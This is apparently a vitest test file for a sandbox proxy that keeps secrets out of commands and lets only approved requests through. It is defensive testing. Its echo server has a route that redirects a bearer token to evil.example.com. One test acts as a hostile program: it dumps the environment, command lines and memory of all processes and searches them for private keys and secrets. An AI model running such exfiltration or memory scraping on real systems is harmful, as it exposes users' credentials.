import { createServer as createHttpServer, type IncomingMessage, type ServerResponse } from 'node:http';
import { createServer as createHttpsServer } from 'node:https';
import { connect, type AddressInfo } from 'node:net';
import { createSecureContext } from 'node:tls';
import { brotliCompressSync, deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { HeldRequest } from '../../../net/held-request.ts';
import { isSignedBy, parseSignature, payloadHash } from '../../../secrets/sigv4.ts';
import type { Secret, SecretPlace, SecretWay } from '../../../secrets/secret.ts';
import { SandboxBench, TEST_USERS } from '../../../testing/sandbox-bench.ts';
import { findBubblewrap } from '../../find-bubblewrap.ts';
import { CommandAuthority } from './authority.ts';
import type { EdgeSource } from './edge-source.ts';

const VALUE = 'ghp_Zq8e3RtYuIoP0aSdFgHjKlXcVbNm1234567';
const HOST = 'api.example.com';
const [USER = 'user'] = TEST_USERS;

const secret = (name: string, as: SecretWay, place: Partial<SecretPlace> = {}, value = VALUE): Secret => ({
  name,
  also: [],
  texts: {},
  places: [{ scheme: 'https', host: HOST, port: 443, as, ...place }],
  value,
  added: '',
});

/** A server that shows what it got, in every way in which servers do. */
function echo(seen: string[]) {
  return (request: IncomingMessage, response: ServerResponse): void => {
    seen.push(`${request.method} ${request.url} ${JSON.stringify(request.headers)}`);
    const sent = JSON.stringify({ url: request.url, headers: request.headers });
    const [path = '/'] = (request.url ?? '/').split('?', 1);
    const authorization = request.headers.authorization ?? '';
    const ways: Record<string, () => void> = {
      '/plain': () => response.setHeader('content-length', Buffer.byteLength(sent)).end(sent),
      '/header': () =>
        response
          .setHeader('x-echo', authorization)
          .setHeader('set-cookie', [`a=${authorization}`, 'b=1'])
          .end('ok'),
      '/gzip': () => response.setHeader('content-encoding', 'gzip').end(gzipSync(sent)),
      '/deflate': () => response.setHeader('content-encoding', 'deflate').end(deflateSync(sent)),
      '/raw-deflate': () => response.setHeader('content-encoding', 'deflate').end(deflateRawSync(sent)),
      '/br': () => response.setHeader('content-encoding', 'br').end(brotliCompressSync(sent)),
      '/twice': () => response.setHeader('content-encoding', 'gzip, br').end(brotliCompressSync(gzipSync(sent))),
      '/unknown': () => response.setHeader('content-encoding', 'rot13').end(sent),
      '/base64': () => response.end(Buffer.from(sent).toString('base64')),
      '/hex': () => response.end(Buffer.from(sent).toString('hex')),
      '/error': () => response.writeHead(500).end(`<h1>Error</h1><pre>${sent}</pre>`),
      '/redirect': () => response.writeHead(302, { location: `https://evil.example.com/?t=${authorization.slice(7)}` }).end(),
      '/chunks': () => {
        let at = 0;
        const next = (): void => {
          if (at >= sent.length) response.end();
          else response.write(sent.slice(at, (at += 5)), () => setImmediate(next));
        };
        next();
      },
    };
    if (request.headers.range !== undefined) {
      response.writeHead(206).end(sent.slice(...(/(\d+)-(\d+)/u.exec(request.headers.range) ?? []).slice(1).map(Number)));
      return;
    }
    (ways[path] ?? ways['/plain'])?.();
  };
}

/** Programs that may be installed. Each command begins with the name of what must exist. */
function furtherPrograms(url: string): Record<string, string> {
  const registry = `https://${HOST}/`;
  const inPython = (module: string): string =>
    `python3 -c 'import importlib.util as u, sys; sys.exit(u.find_spec("${module}") is None)' || { echo missing; exit; }; `;
  const inJava = (body: string): string =>
    `java -version 2>/dev/null || { echo missing; exit; }; printf '%s' 'public class A { public static void main(String[] a) throws Exception { ${body} } }' > /tmp/A.java && java /tmp/A.java`;
  return {
    gh: `gh api --hostname ${HOST} user`,
    pnpm: `pnpm --version >/dev/null 2>&1 || { echo missing; exit; }; pnpm view x --registry ${registry}`,
    // A stub of corepack would download it first.
    yarn: `yarn --version >/dev/null 2>&1 || { echo missing; exit; }; mkdir -p /tmp/y && cd /tmp/y && echo '{"name":"y"}' > package.json; yarn info x --registry ${registry} || YARN_NPM_REGISTRY_SERVER=${registry} yarn npm info x`,
    uv: `uv pip download x --index-url ${registry}simple/ || uv pip install x --target /tmp/x --index-url ${registry}simple/`,
    'Node https': `node -e 'require("https").get("${url}", (r) => r.pipe(process.stdout))'`,
    requests: `${inPython('requests')}python3 -c 'import requests; print(requests.get("${url}").text)'`,
    httpx: `${inPython('httpx')}python3 -c 'import httpx; print(httpx.get("${url}").text)'`,
    Java: inJava(`System.out.println(new String(new java.net.URL("${url}").openStream().readAllBytes()));`),
    'Java HttpClient': inJava(
      `System.out.println(java.net.http.HttpClient.newHttpClient().send(java.net.http.HttpRequest.newBuilder(java.net.URI.create("${url}")).build(), java.net.http.HttpResponse.BodyHandlers.ofString()).body());`,
    ),
  };
}

describe.skipIf((await findBubblewrap()) === undefined || !process.features.typescript)('a secret of a command', () => {
  const authority = new CommandAuthority();
  const seen: string[] = [];
  const secure = createHttpsServer({ SNICallback: (name, done) => done(null, authority.contextFor(name)) }, echo(seen));
  const plain = createHttpServer(echo(seen));
  const portOf = (server: typeof plain | typeof secure): number => (server.address() as AddressInfo).port;

  beforeAll(async () => {
    await Promise.all([secure, plain].map((server) => new Promise<void>((resolve) => void server.listen(0, '127.0.0.1', resolve))));
  });
  afterAll(() => {
    for (const server of [secure, plain]) {
      server.closeAllConnections();
      server.close();
    }
  });

  const open = async (
    secrets: readonly Secret[],
    domains: readonly string[] = [HOST],
    source: Partial<EdgeSource> = {},
    maxSentBytes?: number,
  ): Promise<SandboxBench> =>
    await SandboxBench.open(USER, {
      policy: { network: { domains } },
      network: {
        resolve: async (host) => (host === 'localhost' ? ['127.0.0.1'] : ['93.184.216.34']),
        dial: (_, port) => connect(port === 443 ? portOf(secure) : portOf(plain), '127.0.0.1'),
        verifying: () => createSecureContext({ ca: authority.certificate }),
        ...(maxSentBytes === undefined ? {} : { maxSentBytes }),
      },
      edge: { exist: () => true, secrets: async () => secrets, opensLocal: () => false, denied: () => [], ...source },
    });

  it.each([
    [20_000, 1],
    [100_000, 0],
  ])('of AWS sends no more than a command may: %i bytes in a body that is signed', async (bytes, sent) => {
    const aws = { ...secret('AWS_SECRET_ACCESS_KEY', { kind: 'aws', id: 'AKIAIOSFODNN7EXAMPLE' }), texts: {} };
    await using bench = await open([aws], [HOST], {}, 64 * 1024);
    seen.length = 0;
    const { stdout } = await bench.inside(
      `head -c ${bytes} /dev/zero | tr '\\0' x > /tmp/b; curl -sS --aws-sigv4 aws:amz:us-east-1:sts -u "AKIAIOSFODNN7EXAMPLE:$AWS_SECRET_ACCESS_KEY" --data-binary @/tmp/b https://${HOST}/plain`,
    );
    expect(seen).toHaveLength(sent);
    expect(stdout.includes('a command sends at most 0.1 MiB')).toBe(sent === 0);
  });

  it('is a placeholder in the command, and the value at its host', async () => {
    await using bench = await open([secret('TOKEN', { kind: 'bearer' })]);
    const { stdout } = await bench.inside(`echo "$TOKEN"; curl -sS https://${HOST}/plain`);
    expect(stdout).toMatch(/^ghp_[\da-z]{35}\n/u);
    expect(stdout).not.toContain(VALUE);
    expect(stdout).toContain(`"authorization":"Bearer ${'*'.repeat(VALUE.length)}"`);
    expect(seen.at(-1)).toContain(`"authorization":"Bearer ${VALUE}"`);
  });

  it.each(['plain', 'header', 'gzip', 'deflate', 'raw-deflate', 'br', 'twice', 'base64', 'hex', 'error', 'redirect', 'chunks', 'unknown'])(
    'does not come back by /%s',
    async (way) => {
      await using bench = await open([secret('TOKEN', { kind: 'bearer' })]);
      const { stdout, stderr } = await bench.inside(
        `curl -sSi --compressed https://${HOST}/${way} | tee raw; base64 -d raw 2>/dev/null; xxd -r -p raw 2>/dev/null`,
      );
      expect(seen.at(-1)).toContain(`Bearer ${VALUE}`);
      for (const text of [VALUE, Buffer.from(VALUE).toString('hex'), Buffer.from(VALUE).toString('base64').slice(0, 40)])
        expect(stdout + stderr).not.toContain(text);
      if (way !== 'unknown') expect(stdout).toMatch(/\*{8}/u);
      else expect(stdout).toMatch(/ 502 /u);
    },
  );

  it('does not come back in parts', async () => {
    await using bench = await open([secret('TOKEN', { kind: 'bearer' })]);
    const { stdout } = await bench.inside(`for i in 0 20 40 60 80 100 120 140 160; do curl -sS -r $i-$((i+20)) https://${HOST}/plain; done`);
    for (let at = 4; at + 12 < VALUE.length; at += 1) expect(stdout).not.toContain(VALUE.slice(at, at + 12));
  });

  it.each<readonly [string, SecretWay, string, string]>([
    ['basic', { kind: 'basic', user: 'me' }, `curl -sS https://${HOST}/plain`, Buffer.from(`me:${VALUE}`).toString('base64')],
    ['a header', { kind: 'header', name: 'x-api-key' }, `curl -sS https://${HOST}/plain`, `"x-api-key":"${VALUE}"`],
    ['a parameter', { kind: 'query', name: 'key' }, `curl -sS https://${HOST}/plain?a=1`, `/plain?a=1&key=${VALUE}`],
    ['a variable', { kind: 'env' }, `curl -sS -H "Authorization: token $TOKEN" https://${HOST}/plain`, `token ${VALUE}`],
    ['a variable as a password', { kind: 'env' }, `curl -sS -u "me:$TOKEN" https://${HOST}/plain`, Buffer.from(`me:${VALUE}`).toString('base64')],
  ])('goes as %s', async (_, as, command, expected) => {
    await using bench = await open([secret('TOKEN', as)]);
    const { stdout } = await bench.inside(command);
    expect(seen.at(-1)).toContain(expected);
    expect(stdout).not.toContain(VALUE);
    expect(stdout).toMatch(/\*{8}/u);
  });

  it('of AWS signs again what the command signed with the placeholder, and nothing else', async () => {
    const id = 'AKIAIOSFODNN7EXAMPLE';
    const aws = { ...secret('AWS_SECRET_ACCESS_KEY', { kind: 'aws', id }), texts: { AWS_ACCESS_KEY_ID: id } };
    await using bench = await open([aws]);
    const before = seen.length;
    const signed = (key: string, rest: string): string =>
      `curl -sS --aws-sigv4 aws:amz:us-east-1:sts -u "${key}" ${rest} https://${HOST}/plain; echo;`;
    const own = '$AWS_ACCESS_KEY_ID:$AWS_SECRET_ACCESS_KEY';
    const { stdout } = await bench.inside(
      signed(own, '-d Action=GetCallerIdentity') +
        signed(own, '-G -d a=1 -d b=2') +
        signed('$AWS_ACCESS_KEY_ID:guessed-by-a-program', '-d x=1') +
        signed(own, '-H "Range: bytes=0-9"'),
    );
    const requests = seen.slice(before).map((line) => {
      const [, method = '', path = '', headers = ''] = /^(\S+) (\S+) (.*)$/u.exec(line) ?? [];
      return { method, path, headers: JSON.parse(headers) as Record<string, string> };
    });
    expect(requests.map(({ method, path }) => `${method} ${path}`)).toEqual(['POST /plain', 'GET /plain?a=1&b=2']);
    for (const [index, body] of ['Action=GetCallerIdentity', ''].entries()) {
      const request = requests[index];
      const signature = parseSignature(request?.headers['authorization'] ?? '');
      expect(
        request !== undefined && signature !== undefined && isSignedBy(request, signature, { id, secret: VALUE }, payloadHash(Buffer.from(body))),
      ).toBe(true);
    }
    expect(stdout).toContain('its signature is not that of $AWS_SECRET_ACCESS_KEY');
    expect(stdout).toContain('its signature covers the header range, which is left out');
    expect(stdout).not.toContain(VALUE);
  });

  it('goes to no other host, and not without encryption', async () => {
    await using bench = await open([secret('TOKEN', { kind: 'env' })], [HOST, 'other.example.com']);
    const sent = (url: string): string => `curl -sS -k -H "Authorization: Bearer $TOKEN" ${url}; `;
    const before = seen.length;
    await bench.inside(sent('https://other.example.com/plain') + sent('http://other.example.com/plain') + sent(`http://${HOST}/plain`));
    expect(seen.slice(before)).toHaveLength(3);
    expect(seen.slice(before).join()).not.toContain(VALUE);
  });

  it.each([
    [false, 0],
    [true, 1],
  ])('goes to this machine without encryption only where a rule opens it: %s', async (isOpen, times) => {
    const here = secret('TOKEN', { kind: 'bearer' }, { scheme: 'http', host: 'localhost', port: 8080 });
    await using bench = await open([here], ['localhost:8080'], { opensLocal: () => isOpen });
    const before = seen.length;
    const { stdout } = await bench.inside('curl -sS http://localhost:8080/plain; echo "[$TOKEN]"');
    expect(seen.slice(before).filter((line) => line.includes(VALUE))).toHaveLength(times);
    expect(stdout).not.toContain(VALUE);
    expect(stdout.includes('[]')).toBe(!isOpen);
  });

  it('is there only where the network is open to its host', async () => {
    await using bench = await open([secret('TOKEN', { kind: 'bearer' })], ['other.example.com']);
    const { stdout } = await bench.inside('echo "[$TOKEN]"; env | grep -c synapse-bridge/trust');
    expect(stdout).toBe('[]\n0\n');
  });

  it('is not in the output of a command that has it from elsewhere', async () => {
    await using bench = await open([secret('TOKEN', { kind: 'bearer' })]);
    const { stdout, stderr } = await bench.inside(`printf '%s' ghp_Zq8e3RtYuIoP; sleep 0.05; echo 0aSdFgHjKlXcVbNm1234567; echo ${VALUE} >&2`);
    expect(stdout).toBe(`${'*'.repeat(VALUE.length)}\n`);
    expect(stderr).toBe(`${'*'.repeat(VALUE.length)}\n`);
  });

  it('stays usable by the usual programs', async () => {
    await using bench = await open([secret('TOKEN', { kind: 'bearer' })]);
    const url = `https://${HOST}/plain`;
    const programs: Record<string, string> = {
      curl: `curl -sSf ${url}`,
      wget: `wget -qO- ${url}`,
      python: `python3 -c 'import urllib.request as r; print(r.urlopen("${url}").read())'`,
      node: `node -e 'fetch("${url}").then((r) => r.text()).then(console.log)'`,
      git: `git ls-remote https://${HOST}/x.git`,
      npm: `npm view x --registry https://${HOST}/ --fetch-retries 0`,
      pip: `pip download --no-deps --retries 0 -i https://${HOST}/simple/ x`,
      go: `go env -w GOPROXY=https://${HOST} GOSUMDB=off && cd /tmp && go mod init example.org/y && go list -m example.org/x@latest`,
      // Before 1.68, it knows no such registry. It says no version where rustup has no toolchain.
      cargo: `case $(cargo --version) in ''|'cargo 1.'[0-5]*|'cargo 1.6'[0-7]*) echo missing; exit;; esac; cargo init -q --name c /tmp/c && cd /tmp/c && mkdir .cargo && printf '[source.crates-io]\\nreplace-with = "m"\\n[source.m]\\nregistry = "sparse+https://${HOST}/index/"\\n' > .cargo/config.toml && CARGO_NET_RETRY=0 cargo add serde`,
    };
    for (const [name, command] of Object.entries({ ...programs, ...furtherPrograms(url) })) {
      const before = seen.length;
      const { stdout, stderr } = await bench.inside(
        `command -v ${name === 'cargo' ? name : command.split(' ')[0]} >/dev/null || { echo missing; exit; }; ${command}`,
      );
      if (stdout === 'missing\n') continue;
      expect([name, stderr.includes('ertificate'), seen.length > before && seen.at(-1)?.includes(VALUE)]).toEqual([name, false, true]);
      expect(stdout + stderr).not.toContain(VALUE);
    }
  });

  it('lets npm publish, which asks no registry without a token', async () => {
    await using bench = await open([secret('TOKEN', { kind: 'bearer' })]);
    const before = seen.length;
    const { stdout, stderr } = await bench.inside(
      `mkdir /tmp/n && cd /tmp/n && echo '{"name":"n","version":"1.0.0"}' > package.json && npm publish --registry https://${HOST}/; echo '@a:registry=https://b.example.com/' >> ~/.npmrc && cat ~/.npmrc`,
    );
    expect(stderr).not.toContain('ENEEDAUTH');
    expect(seen.slice(before).filter((line) => line.startsWith('PUT /n ') && line.includes(`Bearer ${VALUE}`))).toHaveLength(1);
    expect(stdout).toContain(`//${HOST}/:_authToken=\${TOKEN}\n@a:registry=https://b.example.com/\n`);
    expect(stdout + stderr).not.toContain(VALUE);
  });

  it('rules about requests hold for commands, and a refused one is a line that says what would allow it', async () => {
    const denied = [
      {
        text: 'fetch(api.example.com /plain/no)',
        asks: false,
        isAbout: (host: string) => host === HOST,
        mayCover: (_: string, path: string) => path === '/plain/no',
      },
    ];
    await using bench = await open([], [`${HOST} GET /plain/**`], { denied: () => denied });
    const before = seen.length;
    const outcome = await bench.inside(
      `curl -sS https://${HOST}/plain/a >/dev/null && echo sent; curl -sSf -X DELETE https://${HOST}/plain/a?x=1; curl -sSf https://${HOST}/plain/no; curl -sSf https://${HOST}/admin`,
    );
    expect(outcome.stdout).toContain('sent');
    expect(seen.slice(before)).toHaveLength(1);
    expect(outcome.hints).toEqual([
      `refused: DELETE ${HOST}/plain/a; a person allows it with --network "${HOST} DELETE /plain/a"; refused: GET ${HOST}/admin; a person allows it with --network "${HOST} GET /admin" · refused: GET ${HOST}/plain/no, by the rule fetch(api.example.com /plain/no)`,
    ]);
  });

  it('a request that no rule allows waits for a person, who is asked once about it', async () => {
    const asked: HeldRequest[] = [];
    const askRequest = async (held: HeldRequest): Promise<boolean> => asked.push(held) > 0 && !held.text.startsWith('DELETE');
    await using bench = await open([], [`${HOST} GET /plain/**`]);
    const before = seen.length;
    const url = `https://${HOST}/other`;
    const { stdout } = await bench.inside(
      `curl -sS -d a=1 ${url} >a & curl -sS -d a=1 ${url}?b >b; wait; wc -l <a; wc -l <b; curl -sS -X DELETE ${url}; curl -sS --path-as-is ${url}/../x; curl -sS http://other.example.com/plain -o /dev/null`,
      { askRequest },
    );
    expect(seen.slice(before).map((line) => line.split(' ').slice(0, 2).join(' '))).toEqual(
      expect.arrayContaining(['POST /other', 'POST /other?b', 'GET /plain']),
    );
    expect(seen).toHaveLength(before + 3);
    expect(asked).toEqual([
      { text: `POST ${HOST}/other`, rule: `${HOST} POST /other`, askedBy: undefined },
      { text: `DELETE ${HOST}/other`, rule: `${HOST} DELETE /other`, askedBy: undefined },
      { text: 'connect to other.example.com', rule: 'other.example.com * /**', askedBy: undefined },
    ]);
    expect(stdout.match(/does not allow this request/gu)).toHaveLength(2);
  });

  it('a rule that asks is asked about, one that denies is not, and an earlier answer goes before the question', async () => {
    const asked: string[] = [];
    const rule = (text: string, path: string, asks: boolean) => ({
      text,
      asks,
      isAbout: (host: string) => host === HOST,
      mayCover: (_: string, one: string) => one === path,
    });
    const granted = [{ isAbout: (host: string) => host === HOST, isWhole: false, covers: (_: string, path: string) => path === '/plain/known' }];
    const denied = [rule('ask a', '/plain/a', true), rule('ask b', '/plain/known', true), rule('deny', '/plain/no', false)];
    await using bench = await open([], [HOST], { denied: () => denied, granted: () => granted });
    const before = seen.length;
    const askRequest = async ({ text, askedBy }: HeldRequest): Promise<boolean> => asked.push(`${text} ${askedBy}`) > 0;
    const outcome = await bench.inside(['a', 'known', 'no'].map((path) => `curl -sS https://${HOST}/plain/${path} -o /dev/null;`).join(' '), {
      askRequest,
    });
    expect(asked).toEqual([`GET ${HOST}/plain/a ask a`]);
    expect(seen.slice(before).map((line) => line.split(' ')[1])).toEqual(['/plain/a', '/plain/known']);
    expect(outcome.hints).toEqual([`refused: GET ${HOST}/plain/no, by the rule deny`]);
  });

  it('a program that pins certificates gets the reason why it failed', async () => {
    await using bench = await open([secret('TOKEN', { kind: 'bearer' })]);
    const { hints } = await bench.inside(`echo '${authority.certificate}' > own.pem; curl -sS --cacert own.pem https://${HOST}/plain`);
    expect(hints?.join()).toContain('the program did not trust the certificate of the proxy');
  });

  it('a hostile program finds the placeholder, and nothing of the value or of the authority', async () => {
    await using bench = await open([secret('TOKEN', { kind: 'bearer' })]);
    // Everything that it can read: variables, command lines and memory of all processes, and what the proxy left in files. Collected before
    // any process knows what is looked for.
    const { stdout } = await bench.inside(`curl -sS https://${HOST}/plain >/dev/null
      { env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline; cat /tmp/.synapse-bridge/trust/* /tmp/.synapse-bridge/socket/*.pem; python3 -c '
import glob, sys
for maps in glob.glob("/proc/[0-9]*/maps"):
    try:
        memory = open(maps[:-4] + "mem", "rb")
        for line in open(maps):
            begin, end = (int(part, 16) for part in line.split()[0].split("-"))
            try:
                memory.seek(begin)
                sys.stdout.buffer.write(memory.read(min(end - begin, 1 << 25)))
            except (OSError, ValueError, OverflowError): pass
    except OSError: pass
'; } 2>/dev/null | head -c 400000000 > /tmp/all
      count() { echo "$1 $(grep -a -c -e "$2" /tmp/all)"; }
      count placeholder "$TOKEN"; count bridge "PERL_HASH_""SEED"; count value "Zq8e3R""tYuIo"; count key "BEGIN ""PRIVATE"; count ec "BEGIN EC ""PRIVATE"`);
    const counts = Object.fromEntries([...stdout.matchAll(/^(\w+) (\d+)$/gmu)].map(([, name, count]) => [name, Number(count)]));
    expect(counts['placeholder']).toBeGreaterThan(0);
    // The memory of the bridge was read too.
    expect(counts['bridge']).toBeGreaterThan(0);
    expect([counts['value'], counts['key'], counts['ec']]).toEqual([0, 0, 0]);
  });

  it('a command reaches servers of its own, also where Node uses the proxy', async () => {
    await using bench = await open([secret('TOKEN', { kind: 'bearer' })]);
    const own = `node -e 'const s = require("http").createServer((q, r) => r.end("own")).listen(0, () => fetch("http://127.0.0.1:" + s.address().port).then((r) => r.text()).then((t) => { console.log(t); process.exit(); }))'`;
    expect((await bench.inside(own)).stdout).toBe('own\n');
  });
});
